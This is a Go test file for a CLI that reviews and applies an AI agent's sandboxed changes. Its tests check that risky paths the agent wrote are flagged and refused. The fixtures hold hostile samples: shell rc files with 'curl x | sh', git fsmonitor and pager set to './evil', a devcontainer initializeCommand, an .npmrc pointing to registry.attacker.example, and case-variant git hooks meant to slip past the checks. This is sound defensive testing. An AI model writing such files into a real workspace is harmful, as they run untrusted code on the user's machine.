package cli

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"

	"brood.dev/brood/frontend/diff"
	"brood.dev/brood/frontend/diff/difftest"
	"brood.dev/brood/frontend/diff/difftest/foldfs"
	"brood.dev/brood/frontend/flush"
	"brood.dev/brood/frontend/manifest"
	"brood.dev/brood/frontend/session"
	"brood.dev/brood/internal/testenv"
)

// riskFiles is a workspace whose git config includes a tracked file.
var riskFiles = map[string]string{
	".git/HEAD":      "ref: refs/heads/main\n",
	".git/config":    "[core]\n\tbare = false\n[include]\n\tpath = ../repo.gitconfig\n",
	"repo.gitconfig": "[user]\n\tname = dev\n",
	"ok.txt":         "ok\n",
}

// riskAgent writes the agent's changes under test: every one needs a host tool to run
// code, and ok.txt is an ordinary change.
var riskAgent = map[string]string{
	"src/.gitattributes": "*.c filter=evil\n",
	"repo.gitconfig":     "[core]\n\tfsmonitor = ./evil\n",
	".bashrc":            "curl x | sh\n",
	".profile":           "curl x | sh\n",
	".zshenv":            "curl x | sh\n",
	".config/git/config": "[core]\n\tpager = ./evil\n",
	".devcontainer.json": "{\"initializeCommand\": \"./evil\"}\n",
	"web/.npmrc":         "registry=https://registry.attacker.example/\n",
	"SRC/.ENVRC":         "./evil\n",
	"ok.txt":             "OK\n",
}

// riskWant is the reason brood diff gives each risky path of riskAgent.
var riskWant = map[string]string{
	"src/.gitattributes": diff.PathRisk(".gitattributes"),
	"repo.gitconfig":     "git: included by .git/config (include.path)",
	".bashrc":            diff.PathRisk(".bashrc"),
	".profile":           diff.PathRisk(".profile"),
	".zshenv":            diff.PathRisk(".zshenv"),
	".config/git/config": diff.PathRisk(".config/git/config"),
	".devcontainer.json": diff.PathRisk(".devcontainer.json"),
	"web/.npmrc":         diff.PathRisk(".npmrc"),
	"SRC/.ENVRC":         diff.PathRisk(".envrc"),
}

// TestRiskyNamesShownAndNeverAppliedByAll: brood diff prints each risky change's reason;
// apply --all and review --all leave every one out (exit 3) and apply the ordinary
// change; naming a risky path exactly applies it.
func TestRiskyNamesShownAndNeverAppliedByAll(t *testing.T) {
	sess := applySession(t, riskFiles, riskAgent)
	out, code := applyCLI(t, nil, "diff", sess.ID)
	if code != ExitOK {
		t.Fatalf("diff: exit %d\n%s", code, out)
	}
	for p, why := range riskWant {
		if why == "" || !strings.Contains(out, " "+p+" [risk: "+why+"]\n") {
			t.Errorf("brood diff does not show %s with [risk: %s]:\n%s", p, why, out)
		}
	}
	out, code = applyCLI(t, nil, "apply", sess.ID, "--all", "--yes")
	if code != ExitRefused || wFile(t, sess, "ok.txt") != "OK\n" {
		t.Fatalf("apply --all: exit %d, ok.txt %q\n%s", code, wFile(t, sess, "ok.txt"), out)
	}
	for p, why := range riskWant {
		if !strings.Contains(out, p+": high risk ("+why+")") {
			t.Errorf("apply --all does not skip %s as high risk (%s):\n%s", p, why, out)
		}
		if got, want := wFile(t, sess, p), riskFiles[p]; got != want && !(want == "" && got == "<absent>") {
			t.Errorf("apply --all wrote %s: %q", p, got)
		}
	}
	if out, code := applyCLI(t, nil, "apply", sess.ID, "--yes", "src/.gitattributes"); code != ExitOK || wFile(t, sess, "src/.gitattributes") != riskAgent["src/.gitattributes"] {
		t.Errorf("apply naming src/.gitattributes: exit %d\n%s", code, out)
	}

	rs := reviewSession(t, riskFiles, riskAgent)
	out, msg, code := reviewCmd(t, rs.ID, "--all")
	if code != ExitRefused || readW(t, rs, "ok.txt") != "OK\n" {
		t.Fatalf("review --all: exit %d (%s)\n%s", code, msg, out)
	}
	for p := range riskWant {
		if got, want := readW(t, rs, p), riskFiles[p]; got != want && !(want == "" && got == "<absent>") {
			t.Errorf("review --all wrote %s: %q", p, got)
		}
	}
}

// foldingSession makes a stopped session whose workspace is a case-folding FUSE volume
// (macOS-like name equality) holding files, with agent written to S.
func foldingSession(t *testing.T, files, agent map[string]string) (*session.Session, string) {
	t.Helper()
	testenv.RequireRoot(t)
	testenv.RequireFile(t, "/dev/fuse", "test needs FUSE")
	t.Setenv("BROOD_STATE_DIR", t.TempDir())
	backing, w := t.TempDir(), t.TempDir()
	unmount, err := foldfs.Mount(backing, w)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := unmount(); err != nil {
			t.Errorf("unmount %s: %v", w, err)
		}
	})
	if err := difftest.WriteFiles(w, files); err != nil {
		t.Fatal(err)
	}
	sess := snapshotSession(t, w)
	if err := sess.SetState(session.StateStopped); err != nil {
		t.Fatal(err)
	}
	if err := difftest.WriteFiles(sess.SnapshotDir(), agent); err != nil {
		t.Fatal(err)
	}
	return sess, backing
}

// TestFoldingWorkspace: on a W that folds case (detected by probing: FUSE reports no
// magic), the agent's other spellings of git's files are refused by the diff and by
// flush, other spellings of risky names are high-risk, and apply --all writes only the
// ordinary change.
func TestFoldingWorkspace(t *testing.T) {
	files := map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n", ".git/hooks/README": "x\n", "README.md": "r\n", "ok.txt": "ok\n"}
	agent := map[string]string{
		".GIT/hooks/post-checkout": "#!/bin/sh\ncurl x | sh\n",
		".Git/config":              "[core]\n\tfsmonitor = ./evil\n",
		"SRC/.GitAttributes":       "* filter=evil\n",
		".ENVRC":                   "./evil\n",
		"readme.md":                "collides\n",
		"ok.txt":                   "OK\n",
	}
	sess, backing := foldingSession(t, files, agent)
	out, code := applyCLI(t, nil, "diff", sess.ID)
	if code != ExitRefused {
		t.Fatalf("diff: exit %d\n%s", code, out)
	}
	wantAll(t, "brood diff", out,
		"refused   .GIT/hooks/post-checkout: protected path (.git/hooks/)",
		"refused   .Git/config: protected path (.git/config)",
		"SRC/.GitAttributes [risk: "+diff.PathRisk(".gitattributes")+"]",
		".ENVRC [risk: "+diff.PathRisk(".envrc")+"]",
		"refused   readme.md: case collision with README.md on a case-insensitive workspace",
	)
	out, code = applyCLI(t, nil, "apply", sess.ID, "--all", "--yes")
	if code != ExitRefused || wFile(t, sess, "ok.txt") != "OK\n" {
		t.Fatalf("apply --all: exit %d\n%s", code, out)
	}
	for _, p := range []string{".git/hooks/post-checkout", ".git/attributes", "src/.gitattributes", ".envrc"} {
		if _, err := os.Lstat(filepath.Join(backing, p)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("apply --all wrote %s on the folding volume (%v)", p, err)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(backing, ".git/config")); string(b) != "[core]\n" || wFile(t, sess, "README.md") != "r\n" {
		t.Errorf(".git/config = %q, README.md = %q after apply --all", b, wFile(t, sess, "README.md"))
	}
	// Flush never trusts the Change: a hand-made "added" at another spelling of a hook.
	m, err := manifest.Read(sess.ManifestPath())
	if err != nil {
		t.Fatal(err)
	}
	_, err = flush.Apply(context.Background(), sess, m, []flush.Item{{Change: diff.Change{Path: ".GIT/hooks/post-checkout", Kind: diff.KindAdded}}}, flush.Options{})
	if !errors.Is(err, flush.ErrRefused) || !strings.Contains(err.Error(), "protected path (.git/hooks/)") {
		t.Errorf("flush of .GIT/hooks/post-checkout: %v, want ErrRefused", err)
	}
	if _, err := os.Lstat(filepath.Join(backing, ".git/hooks/post-checkout")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("flush wrote .git/hooks/post-checkout (%v)", err)
	}
}

// applyOnTTY runs brood apply args on a pseudo-terminal, typing answer, and returns the
// output (an error's text last, after "error: ").
func applyOnTTY(t *testing.T, answer string, args ...string) string {
	t.Helper()
	out, _ := applyOnTTYCode(t, answer, args...)
	return out
}

// applyOnTTYCode is applyOnTTY that also returns the exit status (ExitOK, or ExitError
// when the command failed).
func applyOnTTYCode(t *testing.T, answer string, args ...string) (string, int) {
	t.Helper()
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Fatalf("open pty: %v", err)
	}
	defer ptmx.Close()
	done := make(chan struct{})
	go func() { io.Copy(io.Discard, ptmx); close(done) }()
	type result struct {
		out  string
		code int
	}
	res := make(chan result, 1)
	go func() {
		root := NewRootCommand()
		var out bytes.Buffer
		root.SetIn(tty)
		root.SetOut(io.MultiWriter(&out, tty))
		root.SetErr(&out)
		root.SetArgs(append([]string{"apply"}, args...))
		code := ExitOK
		if err := root.Execute(); err != nil {
			out.WriteString("error: " + err.Error())
			code = ExitError
		}
		res <- result{out.String(), code}
	}()
	ptmx.Write([]byte(answer)) // the line discipline keeps it until brood reads
	var r result
	select {
	case r = <-res:
	case <-time.After(30 * time.Second): // a hang guard, not a timing assertion
		t.Fatal("brood apply did not finish after the answers")
	}
	tty.Close()
	ptmx.Close()
	<-done
	return r.out, r.code
}

// TestApplyRiskySecondConfirmation: on a terminal, a high-risk path named exactly is
// applied only after the second "y"; an ordinary change needs one.
func TestApplyRiskySecondConfirmation(t *testing.T) {
	sess := applySession(t, riskFiles, riskAgent)
	out := applyOnTTY(t, "y\nn\n", sess.ID, ".bashrc", "ok.txt")
	if !strings.Contains(out, "1 of them HIGH RISK") || !strings.Contains(out, "nothing applied") ||
		wFile(t, sess, ".bashrc") != "<absent>" || wFile(t, sess, "ok.txt") != "ok\n" {
		t.Errorf("second answer n: .bashrc %q ok.txt %q\n%s", wFile(t, sess, ".bashrc"), wFile(t, sess, "ok.txt"), out)
	}
	out = applyOnTTY(t, "y\ny\n", sess.ID, ".bashrc")
	if wFile(t, sess, ".bashrc") != riskAgent[".bashrc"] {
		t.Errorf("second answer y: .bashrc %q\n%s", wFile(t, sess, ".bashrc"), out)
	}
	out = applyOnTTY(t, "y\n", sess.ID, "ok.txt")
	if strings.Contains(out, "HIGH RISK") || wFile(t, sess, "ok.txt") != "OK\n" {
		t.Errorf("ordinary change: ok.txt %q\n%s", wFile(t, sess, "ok.txt"), out)
	}
}
